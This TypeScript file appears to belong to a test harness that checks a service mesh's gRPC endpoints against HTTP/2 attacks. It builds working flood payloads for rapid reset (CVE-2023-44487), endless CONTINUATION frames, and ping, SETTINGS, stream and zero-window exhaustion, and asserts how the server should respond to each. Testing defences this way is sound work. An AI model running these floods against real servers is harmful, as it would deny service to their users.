import { connect, type ClientHttp2Session } from 'node:http2';
import { expect, type Attack, type Service } from '../../attack.ts';
import {
  connected,
  frame,
  frames,
  grpcPorts,
  greet,
  requestBlock as request,
  streamId,
  write,
} from '../../clients/frames.ts';
import { closedWithin, many } from '../../clients/sockets.ts';
import type { Port } from '../../mesh/places.ts';
import { floods } from './frame-floods.ts';

const { headers, rst, settings, ping, windowUpdate, continuation, endHeaders } = frames;

const kinds = [
  // CVE-2023-44487
  floods('50,000 streams reset at once', 'rapid resets: the connection is closed or cheap, other clients are served', {
    count: 50_000,
    flood: (i) =>
      Buffer.concat([
        frame(headers, { flags: endHeaders, stream: streamId(i), payload: request }),
        frame(rst, { stream: streamId(i), payload: Buffer.from([0, 0, 0, 8]) }),
      ]),
  }),
  floods('200,000 pings', 'pings: the connection is closed or cheap, other clients are served', {
    count: 200_000,
    chunk: 5000,
    flood: () => frame(ping, { payload: Buffer.alloc(8) }),
  }),
  floods(
    '200,000 empty settings',
    'SETTINGS frames that each need an acknowledgement: the connection is closed or cheap, other clients are served',
    {
      count: 200_000,
      chunk: 5000,
      flood: () => frame(settings),
    },
  ),
  // CVE-2024-27316 and its like
  floods('headers that never end', 'endless CONTINUATION frames: the connection is closed, memory stays bounded', {
    count: 20_000,
    chunk: 100,
    flood: (i) =>
      i === 0
        ? frame(headers, { stream: 1, payload: request })
        : frame(continuation, {
            stream: 1,
            payload: Buffer.from(`\x00\x03x-a\x7f\x81\x01${'a'.repeat(256)}`, 'latin1'),
          }),
  }),
  floods('window updates of zero', 'a protocol error: the connection is closed', {
    count: 1000,
    flood: () => frame(windowUpdate, { payload: Buffer.alloc(4) }),
  }),
  floods('frames of unknown types', 'unknown frames: ignored or refused, other clients are served', {
    count: 100_000,
    chunk: 5000,
    flood: (i) => frame(0x20 + (i % 200)),
  }),
];
const randomBytes = (port: Port, service: Service): Attack => ({
  service,
  kind: 'http2',
  name: `random bytes on ${port}`,
  describe: 'bytes that are not HTTP/2: the connection is closed within 10 s',
  run: async (mesh) => {
    const socket = await connected(mesh, port);
    socket.write(mesh.random.bytes(5000));
    expect('the connection to be closed', 'open after 10 s', await closedWithin(socket, 10_000));
  },
});
const streams = (port: Port, service: Service): Attack => ({
  service,
  kind: 'http2',
  name: `5,000 streams on one connection to ${port}`,
  describe: 'streams that are opened and abandoned: bounded by the server, other clients are served',
  deadlineMs: 40_000,
  run: async (mesh) => {
    const socket = await connected(mesh, port);
    await greet(socket);
    const path = Buffer.concat([
      request,
      Buffer.from([0x40 | 0, 12]),
      Buffer.from('content-type'),
      Buffer.from([16]),
      Buffer.from('application/grpc'),
    ]);
    for (let i = 0; i < 5000 && !socket.destroyed; i += 500)
      await write(
        socket,
        Buffer.concat(
          Array.from({ length: 500 }, (_, j) =>
            frame(headers, { flags: endHeaders, stream: streamId(i + j), payload: path }),
          ),
        ),
      );
  },
});
const unread = (port: Port, service: Service): Attack => ({
  service,
  kind: 'http2',
  name: `100 sessions that read nothing on ${port}`,
  describe: 'windows of zero: memory stays bounded, other clients are served',
  run: async (mesh) => {
    const { host, port: number } = mesh.place(port);
    const certificate = await mesh.certificate();
    const sessions = await many(
      100,
      () =>
        new Promise<ClientHttp2Session>((resolve, reject) => {
          const session = connect(port === 'xds' ? `http://${host}:${number}` : `https://${host}:${number}`, {
            settings: { initialWindowSize: 0 },
            rejectUnauthorized: false,
            key: certificate.key,
            cert: certificate.cert,
            servername: 'localhost',
          });
          session.once('connect', () => resolve(session)).on('error', reject);
        }),
    );
    mesh.onClose(() => sessions.forEach((session) => session.destroy()));
    for (const session of sessions)
      session.request({ ':method': 'POST', ':path': '/', 'content-type': 'application/grpc' }).on('error', () => {});
  },
});

/** HTTP/2 that no gRPC client speaks. */
export const http2: readonly Attack[] = grpcPorts
  .flatMap(({ port, service }) => [
    ...kinds.map((kind) => kind(port, service)),
    randomBytes(port, service),
    streams(port, service),
    unread(port, service),
  ])
  .map((row) => (row.name === '50,000 streams reset at once on secure-xds' ? { ...row, form: 'short' as const } : row));
